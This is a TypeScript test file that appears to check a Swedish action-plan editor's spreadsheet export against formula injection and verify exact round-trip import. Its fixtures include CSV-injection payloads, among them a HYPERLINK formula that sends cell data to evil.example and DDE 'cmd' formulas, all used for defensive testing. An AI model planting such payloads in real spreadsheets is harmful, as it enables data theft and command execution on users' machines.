/** Red-team F5: no exported plan-table cell is a formula, and the import undoes exactly what the export did. */
import { describe, expect, it } from 'vitest';
import { createDocument } from '../model/document.js';
import { actionPlanToJSON } from '../model/action-plan.js';
import { exportPlanTable } from './export.js';
import { FORMULA_CELL, neutraliseFormula, restoreFormula } from './formula-cells.js';
import { importPlanTable } from './import.js';

/**
 * What a spreadsheet may run (OWASP "CSV Injection", ASVS 1.2.10): a cell starting with one
 * of `= + - @` or their full-width forms after any whitespace or control characters, or
 * starting with a tab, CR, LF or NUL (red-team FA2-3: `\n=2+2` was written bare).
 */
const RUNS_AS_FORMULA = /^(?:[\s\u0000-\u001f]*[=+\-@\uff1d\uff0b\uff0d\uff20]|[\t\r\n\u0000])/;

// [what, cell, written]
const CELLS: Array<[string, string, string]> = [
  ['a formula', '=1+1', "'=1+1"],
  ['a hyperlink', '=HYPERLINK("http://evil.example/?"&A1;"Klicka")', `'=HYPERLINK("http://evil.example/?"&A1;"Klicka")`],
  ['DDE', "=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
  ['a plus', '+1+cmd|x!A1', "'+1+cmd|x!A1"],
  ['a minus formula', '-2+3+cmd|x!A1', "'-2+3+cmd|x!A1"],
  ['an at', '@SUM(1;2)', "'@SUM(1;2)"],
  ['a tab first', '\t=1+1', "'\t=1+1"],
  ['a carriage return first', '\r=1+1', "'\r=1+1"],
  ['a line feed first', '\n=2+2', "'\n=2+2"],
  ['a line feed before text', '\nrad två', "'\nrad två"],
  ['a NUL first', '\u0000x', "'\u0000x"],
  ['spaces then a formula', '  =1+1', "'  =1+1"],
  ['a no-break space then a plus', '\u00a0+1', "'\u00a0+1"],
  ['a vertical tab then an at', '\u000b@SUM(1)', "'\u000b@SUM(1)"],
  ['a line feed and spaces then a minus', '\n  -2+3', "'\n  -2+3"],
  ['full-width equals', '\uff1d1+1', "'\uff1d1+1"],
  ['full-width plus', '\uff0b1', "'\uff0b1"],
  ['full-width minus', '\uff0d1', "'\uff0d1"],
  ['an ideographic space then a full-width at', '\u3000\uff20SUM(1)', "'\u3000\uff20SUM(1)"],
  ['quoted, then a line feed and a formula', "'\n=1", "''\n=1"],
  ['a space before text', ' text', ' text'],
  ['a formula over two lines', '=1+1\nmer text', "'=1+1\nmer text"],
  ['a bullet list', '- Gör saker - Rapportera', "'- Gör saker - Rapportera"],
  ['a minus alone', '-', "'-"],
  ['an open-start timeframe', '- 2027-09-30', "'- 2027-09-30"],
  ['a phone number', '+46 70 123 45 67', "'+46 70 123 45 67"],
  ['already quoted formula', "'=1+1", "''=1+1"],
  ['twice quoted formula', "''=1+1", "'''=1+1"],
  ['a negative amount', '-1 200', '-1 200'],
  ['a negative amount with öre', '-1 200,50', '-1 200,50'],
  ['a negative amount ungrouped', '-1200', '-1200'],
  ['a big negative amount', '-12 345 678', '-12 345 678'],
  ['badly grouped is no amount', '-1 20', "'-1 20"],
  ['an amount then a formula', '-1200+cmd|x!A1', "'-1200+cmd|x!A1"],
  ['a dot decimal is no table amount', '-1.5', "'-1.5"],
  ['plain text', 'Energikontoret', 'Energikontoret'],
  ['a quote not before a formula', "'citat'", "'citat'"],
  ['a formula later in the text', 'Summa =1+1', 'Summa =1+1'],
  ['empty', '', ''],
];

describe('neutraliseFormula / restoreFormula', () => {
  it.each(CELLS)('%s', (_what, cell, written) => {
    expect(neutraliseFormula(cell)).toBe(written);
    expect(restoreFormula(written)).toBe(cell);
    // What is written never starts a formula, unless it is an amount.
    if (written === cell && cell !== '') expect(RUNS_AS_FORMULA.test(cell) ? /^-[\d ]+(,\d\d)?$/.test(cell) : true).toBe(true);
    // And every cell the rule flags is neutralised: the test's definition and the export's agree.
    if (RUNS_AS_FORMULA.test(cell) && !/^-(\d{1,3}( \d{3})+|\d+)(,\d\d)?$/.test(cell)) expect(written).toBe(`'${cell}`);
  });

  it('fuzz: restore undoes neutralise for every cell, and nothing written starts a formula but an amount', () => {
    const alphabet = ["'", '=', '+', '-', '@', '\t', '\r', '\n', '1', '2', ' ', ',', 'a', '"', ';', '\u00a0', '\u3000', '\u000b', '\u0000', '\uff1d', '\uff0b', '\uff0d', '\uff20'];
    let seed = 7;
    const next = () => (seed = (seed * 1_103_515_245 + 12_345) % 2 ** 31) / 2 ** 31;
    for (let run = 0; run < 20_000; run++) {
      const cell = Array.from({ length: Math.floor(next() * 8) }, () => alphabet[Math.floor(next() * alphabet.length)] ?? '').join('');
      const written = neutraliseFormula(cell);
      expect(restoreFormula(written)).toBe(cell);
      if (RUNS_AS_FORMULA.test(written)) expect(written).toMatch(/^-(\d{1,3}( \d{3})+|\d+)(,\d\d)?$/);
    }
  });

  it('is a RegExp PapaParse can reuse for every cell (no global or sticky state)', () => {
    expect(FORMULA_CELL.global || FORMULA_CELL.sticky).toBe(false);
  });
});

describe('the exported plan table', () => {
  // A CR in a cell is a line break to the import (read-rows normalizeInput), with or without F5.
  const hostile = CELLS.map(([, cell]) => cell).filter((cell) => (RUNS_AS_FORMULA.test(cell) || cell.startsWith("'")) && !cell.includes('\r'));
  const doc = createDocument('action-plan', {
    title: 'Plan',
    goals: [
      {
        number: '1',
        title: 'Mål',
        description: '',
        activities: hostile.map((cell, i) => ({
          number: `1.${i + 1}`,
          title: 'Aktivitet',
          description: cell,
          budget: -120_000,
          responsible: cell,
          recipients: cell,
          start: null,
          end: '2027-09-30',
        })),
      },
    ],
    costs: [
      { section: '=Sektion+1', label: '@Rad', description: '-beskrivning', amount: -5_000 },
      { section: '', label: '+Fristående', description: '', amount: 100 },
    ],
  });
  const plan = actionPlanToJSON(doc);
  const tsv = exportPlanTable(plan);

  it('has no cell a spreadsheet would run, only negative amounts start with a minus', () => {
    const cells = importCells(tsv);
    const starting = cells.filter((cell) => RUNS_AS_FORMULA.test(cell));
    expect(starting.length).toBeGreaterThan(0);
    for (const cell of starting) expect(cell).toMatch(/^-(\d{1,3}( \d{3})+|\d+)(,\d\d)?$/);
  });

  it('imports back to the same plan', () => {
    const again = actionPlanToJSON(createDocument('action-plan', importPlanTable(tsv).plan));
    const strip = (p: typeof plan) => ({
      activities: p.goals.flatMap((g) => g.activities.map(({ description, responsible, recipients, budget, start, end }) => ({ description, responsible, recipients, budget, start, end }))),
      costs: p.costs.map(({ section, label, description, amount }) => ({ section, label, description: section === '' ? '' : description, amount })),
    });
    expect(strip(again)).toEqual(strip(plan));
  });
});

/** The cells of a TSV as PapaParse's quoting writes them (a quoted cell may hold tabs and line breaks). */
function importCells(tsv: string): string[] {
  const cells: string[] = [];
  const pattern = /"((?:[^"]|"")*)"|([^\t\n]*)/y;
  let at = 0;
  while (at < tsv.length) {
    pattern.lastIndex = at;
    const match = pattern.exec(tsv);
    if (!match) break;
    cells.push(match[1] !== undefined ? match[1].replace(/""/g, '"') : match[2] ?? '');
    at = pattern.lastIndex + 1;
  }
  return cells;
}

describe('the plan title line', () => {
  it('comes back without the quote an export put before a formula-like start', async () => {
    const { importPlanTable } = await import('./import.js');
    const { exportPlanTable } = await import('./export.js');
    const { plan } = importPlanTable('=Plan 2027\nMål\tAktiviteter\tBudget\tAnsvar\tTidplan\tMottagare av resultat\n1. Mål\t1.1 Akt\t100\tA\t2027\tB');
    const again = importPlanTable(exportPlanTable({ ...plan, kind: 'action-plan' } as never)).plan;
    expect(again.title).toBe('=Plan 2027');
  });
});
